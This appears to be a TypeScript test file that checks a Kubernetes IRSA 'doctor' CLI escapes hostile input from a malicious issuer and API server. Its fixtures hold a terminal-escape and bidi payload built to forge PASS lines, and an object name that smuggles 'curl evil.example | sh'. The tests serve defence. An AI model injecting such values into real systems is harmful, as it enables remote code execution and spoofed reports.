// Issue 14 item 4: no report can be forged. A malicious issuer (loopback HTTPS: JSON with newlines and terminal
// escapes, raw header bytes, an endless body) and a malicious API server (object names and annotations with
// escapes, through the real kubectl) try to print their own `PASS` lines; every remote string comes out quoted and
// escaped, one finding per line, and --json stays exact JSON with nothing raw in it.
import { strict as assert } from "node:assert";
import { spawn } from "node:child_process";
import * as fs from "node:fs";
import type { AddressInfo } from "node:net";
import * as os from "node:os";
import * as path from "node:path";
import * as tls from "node:tls";
import { after, before, describe, it } from "node:test";
import { runDoctorCluster } from "../src/cli/commands/doctor-cluster";
import type { CliIo } from "../src/cli/command";
import { ClusterFinding, formatClusterFinding } from "../src/cli/cluster-doctor/findings";
import { startLoopbackIssuer, LoopbackIssuer } from "../src/cli/loopback-issuer";
import { createTestCa, issueServerCertificate } from "../src/cli/pki";
import { buildDiscoveryDocument, buildJwks, DISCOVERY_PATH, serializeDiscoveryDocument, serializeJwks } from "../src/oidc";
import { startFakeApiServer, FakeApiServer } from "./helpers/fake-apiserver";
import { deploymentPod, healthyCluster, makeWebhookPki, replaceObject, RSA, serviceAccount } from "./helpers/irsa-cluster";

const MAIN = path.join(__dirname, "..", "src", "cli", "main.js");
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "irsa-hostile-report-"));
after(() => fs.rmSync(tmp, { recursive: true, force: true }));

/** What a forger wants on the terminal: a fake line start, cursor moves, a colour, a title, a C1 CSI, a bidi override. */
const FORGED = "\n\r\u001b[1A\u001b[2KPASS token.signature: the RS256 signature verifies\u001b[32m\u001b]0;owned\u0007\u009b2J\u202e";
// eslint-disable-next-line no-control-regex
const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
const LINE = /^(PASS|WARN|FAIL) [a-z-]+(\.[a-z_-]+)+: /;
const SUMMARY = /^(All \d+ checks passed|\d+ of \d+ checks failed|No check failed)/;

/** Every line is a finding (or the summary), nothing raw anywhere: the report's shape cannot be forged. */
function assertOneLinePerFinding(stdout: string): string[] {
    assert.doesNotMatch(stdout, RAW, "no control, C1 or bidi character reaches the terminal");
    const lines = stdout.trimEnd().split("\n");
    lines.slice(0, -1).forEach((l) => assert.match(l, LINE, `a finding line: ${l}`));
    assert.match(lines[lines.length - 1], SUMMARY);
    return lines;
}

function doctor(args: string[]): Promise<{ code: number | null; stdout: string }> {
    return new Promise((resolve) => {
        const child = spawn(process.execPath, [MAIN, "doctor", ...args], { stdio: ["ignore", "pipe", "pipe"] });
        let stdout = "";
        child.stdout.on("data", (c: Buffer) => (stdout += c.toString("utf8")));
        const timer = setTimeout(() => process.kill(child.pid!, "SIGKILL"), 30_000);
        child.on("close", (code) => (clearTimeout(timer), resolve({ code, stdout })));
    });
}

describe("a malicious issuer cannot forge the issuer doctor's report", () => {
    let issuer: LoopbackIssuer;
    let ca: string;
    before(async () => {
        issuer = await startLoopbackIssuer();
        ca = path.join(tmp, "issuer-ca.pem");
        fs.writeFileSync(ca, issuer.caPem);
    });
    after(() => issuer.close());

    it("newlines and escapes in the discovery document's issuer and jwks_uri", async () => {
        const doc = { ...buildDiscoveryDocument({ issuer: issuer.url, jwks: buildJwks([RSA]) }), issuer: `${issuer.url}${FORGED}`, jwks_uri: `${issuer.url}/openid/v1/jwks${FORGED}` };
        issuer.routes.set(`/${DISCOVERY_PATH}`, { body: JSON.stringify(doc) });
        const run = await doctor(["--issuer", issuer.url, "--ca-file", ca]);
        assert.equal(run.code, 1);
        const lines = assertOneLinePerFinding(run.stdout);
        assert.ok(lines.some((l) => l.startsWith("FAIL discovery.issuer: the discovery document names the issuer ") && l.includes("\\n\\r\\u001b[1A\\u001b[2KPASS token.signature")), "the forged text is shown, escaped, inside the FAIL line");
        assert.ok(!lines.some((l) => l.startsWith("PASS token.")), "no forged PASS line");
    });

    it("a JWKS whose kid and kty carry escapes, and a C1 CSI", async () => {
        const jwks = buildJwks([RSA]);
        issuer.routes.set(`/${DISCOVERY_PATH}`, { body: serializeDiscoveryDocument(buildDiscoveryDocument({ issuer: issuer.url, jwks })) });
        issuer.routes.set("/openid/v1/jwks", { body: JSON.stringify({ keys: [{ ...jwks.keys[0], kty: `RSA${FORGED}`, kid: `k${FORGED}` }] }) });
        const run = await doctor(["--issuer", issuer.url, "--ca-file", ca]);
        const lines = assertOneLinePerFinding(run.stdout);
        assert.ok(lines.some((l) => l.startsWith('FAIL jwks.keys: keys[0] is not an RSA or EC key (kty "RSA\\n\\r\\u001b[1A') && l.includes("\\u009b2J\\u202e")));
    });

    it("a body of terminal escapes where JSON belongs", async () => {
        issuer.routes.set(`/${DISCOVERY_PATH}`, { body: `\u001b[2J\u001b[HPASS discovery.json: fine${FORGED}`, headers: { "content-type": "text/plain" } });
        const run = await doctor(["--issuer", issuer.url, "--ca-file", ca]);
        const lines = assertOneLinePerFinding(run.stdout);
        assert.ok(lines.some((l) => l.startsWith('FAIL discovery.json: the discovery document is not JSON (it starts with "\\u001b[2J\\u001b[HPASS discovery.json')));
    });

    it("an endless stream of escapes is cut at the size bound, the report still one line per finding", async () => {
        issuer.routes.set(`/${DISCOVERY_PATH}`, { body: Buffer.alloc(4 * 1024 * 1024, "\u001b[2J\n"), chunked: true });
        const run = await doctor(["--issuer", issuer.url, "--ca-file", ca, "--timeout", "10"]);
        const lines = assertOneLinePerFinding(run.stdout);
        assert.ok(lines.some((l) => /^FAIL discovery\.fetch: GET .* returned more than 131072 bytes, over the size limit/.test(l)), run.stdout);
    });
});

describe("raw bytes in a response header (a TLS server that writes its own HTTP)", () => {
    let server: tls.Server;
    let url: string;
    let ca: string;
    before(async () => {
        const authority = await createTestCa("hostile issuer CA");
        const cert = await issueServerCertificate(authority, "127.0.0.1", { ips: ["127.0.0.1"] });
        ca = path.join(tmp, "raw-ca.pem");
        fs.writeFileSync(ca, authority.certPem);
        // Latin-1 bytes 0x9b (a C1 CSI) and 0x85 (NEL) are legal header octets (obs-text): the client passes them on.
        const location = Buffer.concat([Buffer.from("https://evil.example/"), Buffer.from([0x9b, 0x32, 0x4a, 0x85]), Buffer.from("PASS discovery.status: answered 200")]);
        server = tls.createServer({ cert: cert.certPem, key: cert.keyPem }, (socket) => {
            socket.once("data", () => {
                socket.end(Buffer.concat([Buffer.from("HTTP/1.1 302 Found\r\nLocation: "), location, Buffer.from("\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")]));
            });
            socket.on("error", () => undefined);
        });
        await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
        url = `https://127.0.0.1:${(server.address() as AddressInfo).port}`;
    });
    after(() => new Promise<void>((resolve) => server.close(() => resolve())));

    it("a redirect's Location with C1 controls is shown escaped, never followed", async () => {
        const run = await doctor(["--issuer", url, "--ca-file", ca]);
        assert.equal(run.code, 1);
        const lines = assertOneLinePerFinding(run.stdout);
        assert.ok(lines.some((l) => l.startsWith(`FAIL discovery.status: GET ${url}/.well-known/openid-configuration answered 302, a redirect to "https://evil.example/\\u009b2J\\u0085PASS discovery.status: answered 200"; STS does not follow redirects`)), run.stdout);
    });
});

describe("a malicious API server cannot forge doctor cluster's report (real kubectl)", () => {
    let api: FakeApiServer;
    before(async () => {
        api = await startFakeApiServer(healthyCluster({ clusterIssuer: "https://127.0.0.1:9", servedKeys: [RSA], pki: await makeWebhookPki() }));
        // A pod the webhook did not mutate, with hostile names (a real API server would refuse them; a hostile one sends anything).
        const pod = deploymentPod("apps", "s3-reader", "s3-reader", false, "zz");
        pod.metadata.name = `s3-reader${FORGED}`;
        pod.metadata.ownerReferences = [{ apiVersion: "apps/v1", kind: `StatefulSet`, name: `db; curl evil.example | sh${FORGED}`, controller: true, uid: "x" }];
        api.cluster.objects.push(pod);
        replaceObject(api.cluster, serviceAccount("apps", "s3-reader", { "eks.amazonaws.com/role-arn": "arn:aws:iam::111122223333:role/app", "eks.amazonaws.com/audience": `sts.amazonaws.com${FORGED}` }));
    });
    after(() => api.close());

    async function run(json: boolean): Promise<string> {
        let stdout = "";
        const io: CliIo = { stdout: (t) => void (stdout += t), stderr: () => undefined, readStdin: async () => "" };
        await runDoctorCluster(["--kubeconfig", api.kubeconfig, "--namespace", "apps", "--service-account", "s3-reader", "--timeout", "10", ...(json ? ["--json"] : [])], io);
        return stdout;
    }

    it("text: one line per finding, the hostile names quoted and escaped, the restart command quoted for the shell", async () => {
        const text = await run(false);
        const lines = assertOneLinePerFinding(text);
        const injection = lines.find((l) => l.startsWith("FAIL injection.pods: StatefulSet "))!;
        assert.ok(injection, text);
        assert.ok(injection.includes('pod(s) "s3-reader\\n\\r\\u001b[1A\\u001b[2KPASS token.signature'), injection);
        assert.ok(injection.includes("kubectl rollout restart 'statefulset/db; curl evil.example | sh"), "the command to paste is one shell word");
        const audience = lines.find((l) => l.startsWith("FAIL sa.audience: "))!;
        assert.match(audience, /contains "\\n": an audience is 1 to 255 literal characters/);
    });

    it("--json: exact JSON, nothing raw in it, and the same findings the text shows", async () => {
        const json = await run(true);
        // The layout's own newlines only: every character a terminal would act on is a \u escape inside the strings.
        assert.doesNotMatch(json.replace(/\n/g, ""), RAW);
        const findings = (JSON.parse(json) as { findings: ClusterFinding[] }).findings;
        const text = assertOneLinePerFinding(await run(false));
        assert.deepEqual(findings.map(formatClusterFinding), text.slice(0, -1));
        const pods = findings.find((f) => f.id === "injection.pods" && f.level === "FAIL")!;
        assert.ok(pods.message.includes('"s3-reader\\n\\r\\u001b[1A'), "the message holds the quoted name, escaped once");
    });
});
